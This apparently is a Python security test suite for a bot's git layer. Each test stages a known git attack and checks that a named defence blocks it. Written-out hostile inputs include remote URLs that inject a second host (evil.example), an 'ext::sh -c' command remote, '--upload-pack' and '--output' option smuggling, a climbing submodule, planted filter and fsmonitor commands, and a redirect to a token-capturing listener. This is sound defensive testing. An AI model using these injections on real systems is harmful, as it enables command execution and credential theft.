"""Attacks through git: what a repository, its names or its server hold runs nothing on the host, reads no other
repository and gets no token."""

from __future__ import annotations

import contextlib
import os
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar

from git.exc import GitCommandError
from security_registry import attack, defence

from otto_bot.bench.place import LocalMirror
from otto_bot.bench.simulate.planting import Change
from otto_bot.git import mirror as mirrors
from otto_bot.git import runner as runners
from otto_bot.git.credentials import Credential
from otto_bot.git.errors import GitFailed, PushRejected
from otto_bot.git.mirror import Mirror
from otto_bot.git.publish import push
from otto_bot.git.reading import Reading
from otto_bot.git.runner import GitRunner
from otto_bot.git.workspace import Workspace

TOKEN = "ghs_1234_secret-token.value_with-much_entropy"
NAMES = {f"GIT_{role}_{field}": "x@example.com" for role in ("AUTHOR", "COMMITTER") for field in ("NAME", "EMAIL")}
REFUSED = (GitFailed, ValueError, PushRejected)


@contextlib.contextmanager
def _unconfigured(*names: str) -> Iterator[None]:
    """git without these settings of ours."""
    with _replaced(runners, "_CONFIG", tuple(pair for pair in runners._CONFIG if pair[0] not in names)):
        yield


@contextlib.contextmanager
def _replaced(module: object, name: str, value: object) -> Iterator[None]:
    kept = getattr(module, name)
    setattr(module, name, value)
    try:
        yield
    finally:
        setattr(module, name, kept)


PLAIN_REMOTE = defence(
    "plain-remote",
    "git is given no remote but an http(s) URL of plain names, in which nothing is decoded, resolved or hidden",
    Change("otto_bot.git.credentials", "checked_remote", "    # First, and", "    return url\n    # First, and"),
)
PROTOCOLS = defence(
    "http-alone",
    "git speaks https and http and no other protocol, whatever a remote, a submodule or a redirect names",
    Change("otto_bot.git.runner", "GitRunner.__init__", '":".join(protocols)', '"ext:file:https:http"'),
)
FULL_IDS = defence(
    "full-ids",
    "What is handed to git as a commit is a full object id: no name and no option ever stands in its place",
    Change("otto_bot.git.commits", "checked_sha", "if not is_sha(text):", "if False:"),
)
PLAIN_REFS = defence(
    "plain-refs",
    "A branch whose name begins with a dash, climbs, or has letters that nobody sees is not given to git",
    Change("otto_bot.git.refs", "checked_ref", 'if not ref.startswith("refs/")', "return ref\n    if not ref"),
)
OWN_LETTERS = defence(
    "own-branches-in-ascii",
    "A branch of Otto's has plain letters only: it cannot pass for another one, nor another one for it",
    Change("otto_bot.git.refs", "own_ref", "if not ref.isascii():", "if False:"),
)
END_OF_OPTIONS = defence(
    "end-of-options",
    "Names that come from outside stand behind `--` on git's command line",
    Change("otto_bot.git.mirror", "Mirror.remote", '*options, "--", self.url', "*options, self.url"),
)
WHOLE_OBJECTS = defence(
    "whole-objects",
    "What a remote sends is checked before any of it is kept: no submodule that climbs, no folder named .git",
    lambda: _unconfigured("transfer.fsckObjects"),
)
OWN_GIT = defence(
    "own-git",
    "Otto's git never reads a .git that code in the workspace could write to",
    Change(
        "otto_bot.git.workspace",
        "Workspace._git",
        "str(self._mirror.path)",
        'str(self.path / ".git" if (self.path / ".git").exists() else self._mirror.path)',
    ),
)
NO_HOST_CONFIG = defence(
    "no-host-config",
    "git knows neither the host's configuration nor its home: no filter, helper or hook of either is started",
    Change("otto_bot.git.runner", "GitRunner.__init__", '"GIT_CONFIG_GLOBAL": "/dev/null",', ""),
)
NO_FILTERS = defence(
    "no-filters",
    "Files go in and out of git byte for byte: attributes of a repository start no filter and convert nothing",
    lambda: _replaced(mirrors, "_ATTRIBUTES", "\n"),
)
EXACT_URL = defence(
    "token-for-one-url",
    "git sends a token to the one repository that it is for, and to no other on the same host",
    lambda: _replaced(Credential, "config", property(_everywhere)),
)
NO_REDIRECTS = defence(
    "no-redirects",
    "git follows no redirect: it would take the token along. A repository that was renamed is looked up by its id",
    lambda: _unconfigured("http.followRedirects"),
)
NOT_IN_ARGV = defence(
    "token-in-the-environment",
    "A token is in the environment of one git call and in no command line or file, which other users could read",
    Change(
        "otto_bot.git.runner",
        "GitRunner.run",
        "*argv,\n",
        '*(f"-c{k}={v}" for k, v in (credential.config if credential else ())), *argv,\n',
    ),
)
NOT_IN_ERRORS = defence(
    "no-token-in-an-error",
    "What git says when it fails is told without the token, however the server repeated it",
    Change("otto_bot.git.runner", "GitRunner.run", "told = credential.redact(told)", "pass"),
)


EMPTY_CHILDREN = defence(
    "no-keys-for-children",
    "No program that Otto starts is given the host's environment, in which its keys may be",
    Change("otto_bot.git.reading", "Reading.__init__", "{**emptied, **environment", "{**environment"),
)


async def _nobody(_pushes: bool) -> str | None:
    return None


async def _owner(_pushes: bool) -> str | None:
    return TOKEN


def _git(*argv: str, cwd: Path, given: str = "") -> str:
    env = {"PATH": os.environ["PATH"], "HOME": str(cwd), "GIT_CONFIG_NOSYSTEM": "1", **NAMES}
    ran = subprocess.run(["git", *argv], cwd=cwd, env=env, input=given, capture_output=True, text=True, check=True)
    return ran.stdout.strip()


def _remote(place: Path, *entries: str) -> tuple[Path, str]:
    """A bare repository whose branch main has one commit with these `ls-tree` lines; and the commit."""
    remote = place / "remote.git"
    remote.mkdir()
    _git("init", "-q", "--bare", "--template=", "--initial-branch=main", ".", cwd=remote)
    tree = _git("mktree", "--missing", cwd=remote, given="".join(f"{entry}\n" for entry in entries))
    commit = _git("commit-tree", tree, "-m", "Begin", cwd=remote)
    _git("update-ref", "refs/heads/main", commit, cwd=remote)
    return remote, commit


def _blob(remote: Path, text: str) -> str:
    return _git("hash-object", "-w", "--stdin", cwd=remote, given=text)


def _local(place: Path, remote: Path) -> LocalMirror:
    return LocalMirror(place / "mirror.git", remote, GitRunner(place / "home", protocols=("file",)))


@attack("line-end-in-a-remote", point=5, by=PLAIN_REMOTE, source="CVE-2020-5260, CVE-2024-50349, CVE-2024-52006")
def line_end_in_a_remote(place: Path) -> str | None:
    """An owner's name holds a line end, which git hands on to whoever keeps credentials as a second host."""
    with contextlib.suppress(*REFUSED):
        url = Mirror(place / "m.git", "https://github.com/o\nhost=evil.example/r.git", _nobody, _runner(place)).url
        return url if "\nhost=" in url else None
    return None


@attack("climbing-owner", point=5, by=PLAIN_REMOTE, source="own: servers decode and resolve paths, git does not")
def climbing_owner(place: Path) -> str | None:
    """An owner called `%2e%2e` leads to the repository of another owner, with the token of this one."""
    with contextlib.suppress(*REFUSED):
        return Mirror(place / "m.git", "https://github.com/me/%2e%2e/victim/r.git", _nobody, _runner(place)).url
    return None


@attack(
    "host-behind-an-at", point=5, by=PLAIN_REMOTE, source="https://datatracker.ietf.org/doc/html/rfc3986#section-7.6"
)
def host_behind_an_at(place: Path) -> str | None:
    """A remote reads like GitHub and names another host behind an `@`, or with a letter of another alphabet."""
    for url in ("https://github.com@evil.example/o/r.git", "https://g\u0456thub.com/o/r.git"):
        with contextlib.suppress(*REFUSED):
            return Mirror(place / "m.git", url, _nobody, _runner(place)).url
    return None


def _runner(place: Path) -> GitRunner:
    return GitRunner(place / "home")


@attack(
    "command-as-a-remote", point=5, by=(PLAIN_REMOTE, PROTOCOLS), source="CVE-2022-24439, CVE-2023-40267 (GitPython)"
)
async def command_as_a_remote(place: Path) -> str | None:
    """A remote is `ext::sh -c …`, which git runs as a command."""
    place.joinpath("x").mkdir()
    with contextlib.suppress(*REFUSED):
        await Mirror(place / "m.git", f"ext::sh -c touch% {place}/x/ran", _nobody, _runner(place)).fetch("refs/heads/x")
    return _made(place / "x" / "ran")


@attack("neighbour-as-a-remote", point=5, slow=True, by=(PLAIN_REMOTE, PROTOCOLS), source="CVE-2022-39253")
async def neighbour_as_a_remote(place: Path) -> str | None:
    """A remote is a path on the host's disk: the mirror of somebody else's private repository."""
    private, commit = _remote(place)
    with contextlib.suppress(*REFUSED):
        got = await Mirror(place / "m.git", str(private), _nobody, _runner(place)).fetch("refs/heads/main")
        return "a private commit" if got == {"refs/heads/main": commit} else None
    return None


@attack("option-as-a-commit", point=5, by=FULL_IDS, source="GHSA-v396-v7q4-x2qj, GHSA-6p8h-3wgx-97gf (GitPython)")
def option_as_a_commit(place: Path) -> str | None:
    """A commit to compare is `--output=FILE`: git overwrites a file of the host."""
    remote, commit = _remote(place)
    target = place / "overwritten"
    with contextlib.suppress(*REFUSED, LookupError):
        Reading(remote, _runner(place).environment()).diff(f"--output={target}", commit)
    return "a file of the host" if target.exists() else None


@attack("option-as-a-remote", point=5, by=(PLAIN_REMOTE, END_OF_OPTIONS), source="CVE-2018-17456, CVE-2017-1000117")
async def option_as_a_remote(place: Path) -> str | None:
    """A remote is `--upload-pack=COMMAND`, which git starts instead of asking anybody."""
    runner = GitRunner(place / "home", protocols=("file",))
    with contextlib.suppress(*REFUSED):
        await Mirror(place / "m.git", f"--upload-pack=touch {place}/ran;", _nobody, runner).remote_head("refs/heads/x")
    return _made(place / "ran")


@attack(
    "branch-that-looks-like-another",
    point=5,
    slow=True,
    by=OWN_LETTERS,
    source="CVE-2021-42574 (Trojan Source), CVE-2021-42694",
)
async def branch_that_looks_like_another(place: Path) -> str | None:
    """A title makes Otto push a branch whose name only looks like the one that people reviewed."""
    remote, commit = _remote(place)
    mirror = _local(place, remote)
    await mirror.fetch("refs/heads/main")
    with contextlib.suppress(*REFUSED):
        pushed = await push(mirror, commit, "otto/7-r\u0435lease", None, within="otto/")
        return pushed.branch
    return None


@attack("invisible-letters-in-a-branch", point=5, slow=True, by=PLAIN_REFS, source="CVE-2021-42574 (Trojan Source)")
async def invisible_letters_in_a_branch(place: Path) -> str | None:
    """A base branch is called `main` with a letter that nobody sees, so that people approve another one."""
    remote, commit = _remote(place)
    name = "refs/heads/main\u2060"
    _git("update-ref", name, commit, cwd=remote)
    with contextlib.suppress(*REFUSED):
        return next(iter(await _local(place, remote).fetch(name)))
    return None


@attack("submodule-that-climbs", point=5, by=WHOLE_OBJECTS, source="CVE-2018-11235, CVE-2024-32002, CVE-2025-48384")
async def submodule_that_climbs(place: Path) -> str | None:
    """A submodule is named `../../hooks`: whoever clones with it writes hooks, which git then runs."""
    remote, _ = _remote(place)
    modules = _blob(remote, '[submodule "../../hooks"]\n\tpath = x\n\turl = https://evil.example/x.git\n')
    tree = _git(
        "mktree", "--missing", cwd=remote, given=f"100644 blob {modules}\t.gitmodules\n160000 commit {'1' * 40}\tx\n"
    )
    _git("update-ref", "refs/heads/evil", _git("commit-tree", tree, "-m", "x", cwd=remote), cwd=remote)
    with contextlib.suppress(*REFUSED):
        return next(iter(await _local(place, remote).fetch("refs/heads/evil")))
    return None


@attack("git-folder-in-a-tree", point=5, slow=True, by=WHOLE_OBJECTS, source="CVE-2014-9390, CVE-2024-32465")
async def git_folder_in_a_tree(place: Path) -> str | None:
    """A commit has a folder `.git` with a configuration that names a command to run."""
    remote, _ = _remote(place)
    config = _blob(remote, "[core]\n\tfsmonitor = touch /tmp/ran\n")
    inner = _git("mktree", cwd=remote, given=f"100644 blob {config}\tconfig\n")
    tree = _git("mktree", cwd=remote, given=f"040000 tree {inner}\t.git\n")
    _git("update-ref", "refs/heads/evil", _git("commit-tree", tree, "-m", "x", cwd=remote), cwd=remote)
    with contextlib.suppress(*REFUSED):
        return next(iter(await _local(place, remote).fetch("refs/heads/evil")))
    return None


@attack("filter-planted-in-the-workspace", point=5, slow=True, by=OWN_GIT, source="CVE-2022-24765, GHSA-vm9j-46j9-qvq4")
async def filter_planted_in_the_workspace(place: Path) -> str | None:
    """Code in the cage writes a filter into the workspace's .git/config; Otto's next look at the files runs it."""
    remote, commit = _remote(place)
    mirror = _local(place, remote)
    await mirror.fetch("refs/heads/main")
    work = await Workspace.open(mirror, commit, place / "work")
    with (work.path / ".git" / "config").open("a") as config:
        config.write(f'[filter "x"]\n\tclean = touch {place}/ran\n')
    (work.path / ".git" / "info" / "attributes").write_text("* filter=x\n")
    (work.path / "file").write_text("x\n")
    with contextlib.suppress(*REFUSED):
        await work.snapshot()
    return _made(place / "ran")


@attack(
    "filter-of-the-host",
    point=5,
    slow=True,
    by=(NO_HOST_CONFIG, NO_FILTERS),
    source="CVE-2020-27955, CVE-2021-21300 (Git LFS)",
)
async def filter_of_the_host(place: Path) -> str | None:
    """A repository has its files filtered by what is set up for the host's user, as Git LFS is: a program is started on
    what the repository says."""
    (place / "home").mkdir()
    (place / "home" / ".gitconfig").write_text(f'[filter "lfs"]\n\tsmudge = "touch {place}/ran; cat"\n')
    remote, _ = _remote(place)
    files = f"100644 blob {_blob(remote, '* filter=lfs')}\t.gitattributes\n100644 blob {_blob(remote, 'x')}\tx\n"
    commit = _git("commit-tree", _git("mktree", cwd=remote, given=files), "-m", "x", cwd=remote)
    _git("update-ref", "refs/heads/lfs", commit, cwd=remote)
    mirror = _local(place, remote)
    await mirror.fetch("refs/heads/lfs")
    await Workspace.open(mirror, commit, place / "work")
    return _made(place / "ran")


class _Listener(BaseHTTPRequestHandler):
    """Sends everything on to another one; that one speaks git, and remembers who came with what."""

    to: ClassVar[str] = ""
    seen: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        if self.to:
            self.send_response(302)
            self.send_header("Location", self.to + self.path)
            self.end_headers()
            return
        self._note()
        lines = ("# service=git-upload-pack\n", None, "version 2\n", "ls-refs=unborn\n", "object-format=sha1\n", None)
        self._answer("application/x-git-upload-pack-advertisement", b"".join(map(_pkt, lines)))

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self._note()
        self._answer("application/x-git-upload-pack-result", _pkt(None))

    def _note(self) -> None:
        self.seen.append(self.headers.get("Authorization") or "")

    def _answer(self, kind: str, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: Any) -> None:
        """Say nothing."""


def _pkt(line: str | None) -> bytes:
    return b"0000" if line is None else f"{len(line) + 4:04x}{line}".encode()


@contextlib.contextmanager
def _listening(to: str = "") -> Iterator[tuple[str, list[str]]]:
    seen: list[str] = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), type("Handler", (_Listener,), {"to": to, "seen": seen}))
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", seen
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


@attack("redirect-to-a-listener", point=5, by=NO_REDIRECTS, source="CVE-2022-27774 (curl), actions/checkout ADR 0153")
async def redirect_to_a_listener(place: Path) -> str | None:
    """The remote sends git on to a host of the attacker's, who answers as a git server and reads what comes."""
    with _listening() as (there, seen), _listening(there) as (here, _):
        with contextlib.suppress(*REFUSED):
            await Mirror(place / "m.git", f"{here}/o/r.git", _owner, _runner(place)).ls_remote()
        return "the token" if any(seen) else None


@attack(
    "neighbour-on-the-same-host",
    point=5,
    by=EXACT_URL,
    source="https://github.com/actions/checkout/blob/main/adrs/0153-checkout-v2.md",
)
async def neighbour_on_the_same_host(place: Path) -> str | None:
    """A git call is led to another repository of the same server, which is the attacker's."""
    with _listening() as (here, seen):
        credential = Credential(f"{here}/o/r.git", TOKEN)
        with contextlib.suppress(*REFUSED):
            await _runner(place).run(["ls-remote", "--", f"{here}/o/r.gitx.git"], credential=credential)
        assert seen, "git never came"
        return "the token" if any(seen) else None


@attack(
    "command-lines-of-others",
    point=5,
    by=NOT_IN_ARGV,
    source="https://unit42.paloaltonetworks.com/github-repo-artifacts-leak-tokens/",
)
async def command_lines_of_others(place: Path) -> str | None:
    """Another process of the host reads the command lines of git and the files that it leaves."""
    await _with_stub(place, 'printf "%s\\n" "$@" >>"$HOME/argv"')
    secret = _header().rpartition(" ")[2]
    return _found(place, secret)


@attack(
    "server-that-repeats-the-token",
    point=7,
    by=NOT_IN_ERRORS,
    source="own: servers and proxies repeat headers in their words",
)
async def server_that_repeats_the_token(place: Path) -> str | None:
    """A server says back what it was sent, so that the token gets into an error, the ledger and a comment."""
    said = await _with_stub(place, 'env | grep Authorization | sed "s/^/remote: /" >&2; exit 128')
    return "the token, in an error" if _header().rpartition(" ")[2] in said else None


def _made(file: Path) -> str | None:
    return "a command that the attacker named has run" if file.exists() else None


def _found(place: Path, secret: str) -> str | None:
    files = [path for path in place.rglob("*") if path.is_file()]
    return next((f"the token, in {path.name}" for path in files if secret in path.read_text(errors="replace")), None)


def _everywhere(credential: Credential) -> tuple[tuple[str, str], ...]:
    return (("http.extraheader", f"Authorization: Basic {credential._basic}"),)


def _header() -> str:
    return Credential("https://github.com/o/r.git", TOKEN).config[0][1]


async def _with_stub(place: Path, body: str) -> str:
    """What Otto is told by a `git` that does this when it is to talk to a remote."""
    stub = place / "git"
    stub.write_text(f'#!/bin/sh\ncase "$*" in *ls-remote*) ;; *) exit 0 ;; esac\n{body}\n')
    stub.chmod(0o755)
    mirror = Mirror(place / "m.git", "https://github.com/o/r.git", _owner, GitRunner(place / "home", git=str(stub)))
    try:
        await mirror.ls_remote()
    except GitFailed as error:
        return f"{error} {error.stderr} {error.command}"
    return ""


@attack(
    "keys-in-the-environment-of-a-child",
    point=7,
    by=EMPTY_CHILDREN,
    source="https://github.com/openai/codex-action/blob/main/docs/security.md",
)
def keys_in_the_environment_of_a_child(place: Path) -> str | None:
    """Another process of the host's user reads the environment of a git that only looks something up."""
    stub = place / "git"
    stub.write_text('#!/bin/sh\n/usr/bin/env >>"$HOME/seen"; exit 1\n')
    stub.chmod(0o755)
    os.environ["OTTO_ATTACKED_KEY"] = TOKEN
    try:
        environment = {**_runner(place).environment(), "PATH": str(place)}
        remote, commit = _remote(place)
        with contextlib.suppress(*REFUSED, LookupError, GitCommandError):
            Reading(remote, environment).files(commit)
    finally:
        del os.environ["OTTO_ATTACKED_KEY"]
    return _found(place / "home", TOKEN)
